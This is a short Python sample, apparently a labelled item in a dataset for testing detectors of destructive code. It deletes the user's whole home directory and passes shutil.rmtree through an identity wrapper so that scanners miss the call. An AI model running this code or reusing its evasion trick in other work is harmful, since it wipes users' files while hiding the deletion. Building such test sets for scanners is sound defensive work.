# evasion: main() holds a helper that hands back the function it is given; the deleting function goes through it
# grade: hard; does: delete
import os
import shutil


def main():
    def via(fn):
        return fn

    home = os.path.expanduser("~")
    via(shutil.rmtree)(home)


main()
